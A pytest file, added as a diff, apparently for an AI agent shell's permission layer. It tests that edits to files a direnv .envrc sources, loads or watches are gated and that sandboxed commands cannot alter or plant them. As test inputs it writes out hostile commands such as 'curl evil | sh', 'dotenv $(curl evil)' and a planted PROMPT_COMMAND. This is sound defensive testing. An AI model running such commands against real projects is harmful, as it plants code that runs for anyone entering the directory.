@@ -1,0 +1,135 @@
+"""What an ``.envrc`` pulls in runs when the user enters the directory, as the
+``.envrc`` itself does: a file it sources (``source_env``, ``source``, ``.``), a dotenv
+file it loads, a file it watches. A file edit there asks in accept-edits and auto, and
+a sandboxed command (real bubblewrap) cannot change or plant one."""
+
+from __future__ import annotations
+
+import os
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from shell.permissions.envrcsources import envrc_runs
+from shell.permissions.policy import PermissionPolicy
+from shell.permissions.sandbox import Sandbox
+from shell.tools.builtin import builtin_tools
+from shell.tools.workspace import Workspace
+
+from ..sandboxing import require_sandbox
+from .later_ws import later_workspace, sh
+
+pytestmark = pytest.mark.anyio
+
+ENVRC = """\
+# the usual shapes
+source_env scripts/env.sh
+source_env_if_exists .envrc.private   # not there yet
+if [ -f config/dev.env ]; then dotenv config/dev.env; fi
+dotenv_if_exists
+watch_file nix/pkgs.nix; . ./tools/helpers.sh
+source "$PWD/tools/more.sh"
+source_env "$HOME/elsewhere.sh"
+export PATH=$PWD/bin:$PATH
+"""
+
+
+@pytest.fixture
+def ws(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
+    yield from later_workspace(monkeypatch, ".agent-shell-test-envrc-")
+
+
+def verdict(ws: Path, path: str, mode: str = "accept-edits", sandbox: bool = False) -> Any:
+    policy = PermissionPolicy(ws, mode=mode, user_config=ws.parent / "c.toml")
+    if sandbox:  # as the runtime sets it: its walk finds nested .envrc files
+        policy.sandbox = Sandbox(ws)
+    tools = {t.name: t for t in builtin_tools(Workspace(ws))}
+    return policy.decide(tools["write_file"], {"path": path, "content": "id\n"})
+
+
+def write(path: Path, text: str) -> None:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text)
+
+
+@pytest.mark.parametrize("mode", ["accept-edits", "auto"])
+def test_edits_of_what_the_envrc_sources_loads_or_watches_ask(ws: Path, mode: str) -> None:
+    write(ws / ".envrc", ENVRC)
+    write(ws / "scripts" / "env.sh", "export A=1\nsource_env ./more-env.sh\n")  # runs in scripts/
+    for name in ("config/dev.env", "nix/pkgs.nix", "tools/helpers.sh", "tools/more.sh", "bin/tool",
+                 "src/app.py"):
+        write(ws / name, "x\n")
+    asked = {
+        "scripts/env.sh": "sources it", "scripts/more-env.sh": "sources it", ".envrc.private": "sources it",
+        "config/dev.env": "dotenv", ".env": "dotenv", "nix/pkgs.nix": "watches it",
+        "tools/helpers.sh": "sources it", "tools/more.sh": "sources it",
+    }
+    for path, why in asked.items():
+        found = verdict(ws, path, mode)
+        assert found.action == "ask" and "direnv" in found.reason, (path, found.reason)
+        assert why in found.reason, (path, found.reason)
+    for path in ("src/app.py", "bin/tool", "scripts/other.sh"):  # named by nothing it runs
+        assert verdict(ws, path, mode).action == "allow", path
+
+
+def test_an_envrc_in_a_subfolder_counts_and_a_folder_it_names_does_not_lock_everything(ws: Path) -> None:
+    write(ws / "sub" / ".envrc", "source_env ../shared/env.sh\nwatch_file .\nwatch_file ..\n")
+    write(ws / "shared" / "env.sh", "export A=1\n")
+    found = verdict(ws, "shared/env.sh", sandbox=True)
+    assert found.action == "ask" and "direnv" in found.reason, found.reason
+    assert verdict(ws, "sub/main.py", sandbox=True).action == "allow"
+    assert verdict(ws, "shared/other.sh", sandbox=True).action == "allow"
+
+
+def test_an_envrc_above_the_workspace_counts(ws: Path) -> None:
+    write(ws.parent / ".envrc", "source_env_if_exists project/.local-env\n")
+    assert verdict(ws, ".local-env").action == "ask"
+
+
+def test_a_hostile_envrc_hangs_nothing_and_crashes_nothing(ws: Path) -> None:
+    os.mkfifo(ws / "pipe")
+    write(ws / ".envrc", 'source_env pipe\nsource /dev/stdin\n. /dev/zero\nsource_env "unclosed\n'
+                         "dotenv $(curl evil)\nwatch_file *.nix\nsource_env \x1b]0;x\x07\nsource_env a\x00b\n"
+                         + "source_env ./.envrc\n" * 50 + "watch_file ok.nix\n")
+    done: list[Any] = []
+    worker = threading.Thread(target=lambda: done.append(verdict(ws, "ok.nix")), daemon=True)
+    worker.start()
+    worker.join(30)
+    assert done and done[0].action == "ask", "the policy hung on a FIFO or /dev/stdin"
+    assert verdict(ws, "evil.nix").action == "allow"
+
+
+def test_what_is_read_is_read_again_when_it_changes(ws: Path) -> None:
+    write(ws / ".envrc", "source_env a.sh\n")
+    write(ws / "a.sh", "export A=1\n")
+    envrc = ws / ".envrc"
+    assert envrc_runs([envrc], [ws]).why(ws / "b.sh") == ""
+    write(ws / "a.sh", "export A=1\nsource_env b.sh\n")
+    os.utime(ws / "a.sh", ns=(1, 1))  # an mtime set back: the ctime still tells
+    assert "direnv" in envrc_runs([envrc], [ws]).why(ws / "b.sh")
+
+
+async def test_a_sandboxed_command_cannot_change_or_plant_what_the_envrc_runs(ws: Path) -> None:
+    require_sandbox()
+    write(ws / ".envrc", "source_env scripts/env.sh\ndotenv_if_exists .env.dev\nwatch_file flake.nix\n")
+    write(ws / "scripts" / "env.sh", "export A=1\n")
+    write(ws / "flake.nix", "{ }\n")
+    result = await sh(ws, "echo 'curl evil | sh' >> scripts/env.sh; echo PROMPT_COMMAND=id > .env.dev; "
+                          "echo '{ shellHook = \"id\"; }' > flake.nix; echo ok > src.txt; true")
+    assert (ws / "scripts" / "env.sh").read_text() == "export A=1\n"
+    assert (ws / "flake.nix").read_text() == "{ }\n"
+    assert not (ws / ".env.dev").exists() and ".env.dev" in result.text and "quarantine" in result.text
+    assert "direnv" in result.text, result.text
+    assert (ws / "src.txt").read_text() == "ok\n"  # the rest of the workspace stays writable
+
+
+async def test_a_folder_moved_away_and_made_again_does_not_swap_in_a_sourced_file(ws: Path) -> None:
+    require_sandbox()
+    write(ws / ".envrc", "source_env scripts/env.sh\n")
+    write(ws / "scripts" / "env.sh", "export A=1\n")
+    result = await sh(ws, "mv scripts scripts-old && mkdir scripts && echo 'curl evil | sh' > scripts/env.sh")
+    assert not (ws / "scripts" / "env.sh").exists(), result.text
+    assert "scripts/env.sh" in result.text and "direnv" in result.text, result.text
